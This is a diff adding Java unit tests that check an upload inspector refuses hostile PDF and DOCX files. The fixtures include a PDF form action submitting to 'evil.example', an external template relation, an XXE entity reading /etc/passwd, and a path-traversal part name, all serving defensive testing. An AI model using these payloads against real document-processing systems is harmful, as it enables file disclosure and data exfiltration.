@@ -44,6 +44,38 @@ class InspectionTest {
     }
 
     @Test
+    void aDocumentThatReachesOutsideIsRefused() throws Exception {
+        assertRefused(
+                "upload-script", Papers.pdf("/OpenAction<</S/SubmitForm/F(http://evil.example)>>", "", new byte[0]));
+        assertRefused("upload-script", Papers.pdf("/OpenAction<</S/GoToR/F(other.pdf)>>", "", new byte[0]));
+        assertRefused("upload-script", Papers.pdf("/AcroForm<</XFA(template)/Fields[]>>", "", new byte[0]));
+        assertRefused("upload-script", HostileFiles.docx(Map.of("word/embeddings/oleObject1.bin", new byte[10])));
+        assertRefused(
+                "upload-script",
+                HostileFiles.docx(Map.of("word/_rels/settings.xml.rels", relation("attachedTemplate"))));
+        assertRefused(
+                "upload-script",
+                HostileFiles.docx(Map.of(
+                        "word/styles.xml",
+                        bytes("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))));
+        assertThat(look(HostileFiles.docx(Map.of("word/_rels/document.xml.rels", relation("hyperlink")))))
+                .as("a link to be followed harms nobody")
+                .isEqualTo(new Finding(FileType.DOCX, 0));
+    }
+
+    @Test
+    void aPackageWhosePartsLieElsewhereOrTwiceIsRefused() throws Exception {
+        assertRefused("upload-broken", HostileFiles.docx(Map.of("../../tmp/part.xml", bytes("<a/>"))));
+        assertRefused("upload-broken", HostileFiles.docx(Map.of("Word/Document.xml", bytes("<a/>"))));
+        assertRefused("upload-broken", HostileFiles.docx(Map.of("word/styles.xml", bytes("<a>"))));
+    }
+
+    private static byte[] relation(String type) {
+        return bytes("<Relationships><Relationship Id=\"r1\" Type=\"http://x/relationships/" + type
+                + "\" Target=\"http://evil.example/x\" TargetMode=\"External\"/></Relationships>");
+    }
+
+    @Test
     void thePackedScriptIsReallyOutOfSight() throws Exception {
         assertThat(new String(HostileFiles.pdfWithPackedScript(), StandardCharsets.ISO_8859_1))
                 .doesNotContain("JavaScript")
